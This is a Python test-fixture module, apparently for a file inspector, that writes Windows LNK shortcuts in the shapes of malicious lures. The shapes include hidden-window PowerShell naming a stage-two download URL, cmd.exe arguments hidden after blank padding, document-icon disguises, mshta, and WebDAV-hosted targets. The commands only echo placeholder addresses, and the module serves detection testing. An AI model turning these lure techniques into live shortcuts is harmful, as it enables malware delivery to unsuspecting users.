"""Harmless Windows shortcuts in the shapes of LNK lures, written byte by byte (MS-SHLLINK).

The commands only ``echo`` a documentation address (example.com); nothing is downloaded or run.
"""

from __future__ import annotations

import struct
import uuid

from koban.file.inspectors.lnk import (
    HAS_ARGUMENTS,
    HAS_ICON_LOCATION,
    HAS_LINK_INFO,
    HAS_NAME,
    HAS_RELATIVE_PATH,
    HAS_WORKING_DIR,
    IS_UNICODE,
    MAGIC,
    SW_SHOWMINNOACTIVE,
)

_FILETIME_2024 = 133_485_408_000_000_000  # 2024-01-01T00:00:00Z in 100 ns since 1601


def _string(text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return struct.pack("<H", len(raw) // 2) + raw


def _link_info(path: str, serial: int, label: str) -> bytes:
    volume = struct.pack("<IIII", 16 + len(label) + 1, 3, serial, 16) + label.encode() + b"\x00"
    base = path.encode("cp1252", "replace") + b"\x00"
    header = 28
    volume_off = header
    base_off = volume_off + len(volume)
    suffix_off = base_off + len(base)
    body = volume + base + b"\x00"
    size = header + len(body)
    return struct.pack("<IIIIIII", size, header, 1, volume_off, base_off, 0, suffix_off) + body


def _env_block(signature: int, target: str) -> bytes:
    ansi = target.encode("cp1252", "replace")[:259].ljust(260, b"\x00")
    wide = target.encode("utf-16-le")[:518].ljust(520, b"\x00")
    return struct.pack("<II", 0x314, signature) + ansi + wide


def _tracker(machine_id: str, mac: str) -> bytes:
    node = int(mac.replace(":", ""), 16)
    volume = uuid.UUID("d9029336-836f-4747-8524-519c348c0d11")
    obj = uuid.UUID(
        fields=(0xD30547CC, 0x62A7, 0x11ED, 0x92, 0x34, node)
    )  # a version-1 UUID: node = MAC
    droid = volume.bytes_le + obj.bytes_le
    machine = machine_id.encode()[:15].ljust(16, b"\x00")
    return struct.pack("<IIII", 0x60, 0xA0000003, 0x58, 0) + machine + droid + droid


def shortcut(
    target: str,
    arguments: str = "",
    *,
    working_dir: str | None = None,
    icon: str | None = None,
    icon_index: int = 0,
    minimised: bool = False,
    name: str | None = None,
    env_target: bool = False,
    machine_id: str | None = None,
    mac: str | None = None,
    drive_serial: int = 0x1234ABCD,
) -> bytes:
    """A shell link to ``target`` with ``arguments`` (and the optional parts lures use)."""
    flags = IS_UNICODE | HAS_LINK_INFO | HAS_RELATIVE_PATH
    strings = b""
    if name is not None:
        flags |= HAS_NAME
        strings += _string(name)
    strings += _string(target)  # relative path: the target itself, good enough for a fixture
    if working_dir is not None:
        flags |= HAS_WORKING_DIR
        strings += _string(working_dir)
    if arguments:
        flags |= HAS_ARGUMENTS
        strings += _string(arguments)
    if icon is not None:
        flags |= HAS_ICON_LOCATION
        strings += _string(icon)
    header = (
        MAGIC
        + struct.pack("<II", flags, 0x20)
        + struct.pack("<QQQ", _FILETIME_2024, _FILETIME_2024, _FILETIME_2024)
        + struct.pack("<Iii", 0, icon_index, SW_SHOWMINNOACTIVE if minimised else 1)
        + b"\x00" * 12
    )
    extra = b""
    if env_target:
        extra += _env_block(0xA0000001, target)
    if machine_id is not None:
        extra += _tracker(machine_id, mac or "00:00:5e:00:53:01")
    return header + _link_info(target, drive_serial, "Local Disk") + strings + extra + b"\0" * 4


def hidden_powershell(url: str = "https://example.com/stage2.ps1") -> bytes:
    """PowerShell in a hidden window that names a download address (it only echoes it)."""
    return shortcut(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        f'-NoProfile -WindowStyle Hidden -Command "echo {url}"',
        working_dir=r"C:\Windows\System32",
        icon=r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        icon_index=11,
        minimised=True,
        env_target=True,
        machine_id="desktop-lure01",
        mac="00:00:5e:00:53:01",
    )


def padded_cmd(blanks: int = 300) -> bytes:
    """cmd.exe whose real arguments sit after a run of blanks, out of the Properties dialog."""
    return shortcut(
        r"C:\Windows\System32\cmd.exe",
        " " * blanks + "/c echo https://example.com/invoice",
        icon=r"C:\Windows\System32\imageres.dll",
        icon_index=2,
    )


def plain_script_host(program: str = "mshta.exe", argument: str = "about:blank") -> bytes:
    """A system script host with a bland argument (no evasion)."""
    return shortcut(rf"C:\Windows\System32\{program}", argument)


def document_icon_app(icon: str = r"C:\Users\Public\Documents\report.pdf") -> bytes:
    """A program shortcut that wears a document's icon."""
    return shortcut(r"C:\Users\Public\Documents\viewer.exe", icon=icon)


def network_target(share: str = r"\\192.0.2.10@SSL\DavWWWRoot\tools\setup.exe") -> bytes:
    """A shortcut that runs a program straight from a WebDAV share."""
    return shortcut(share)


def application(target: str = r"C:\Program Files\Example\Example.exe") -> bytes:
    """An ordinary application shortcut (its own icon, no arguments, no builder metadata)."""
    return shortcut(target, working_dir=r"C:\Program Files\Example", icon=target)


def truncated(keep: int = 120) -> bytes:
    """An application shortcut cut after ``keep`` bytes (inside its LinkInfo)."""
    return application()[:keep]
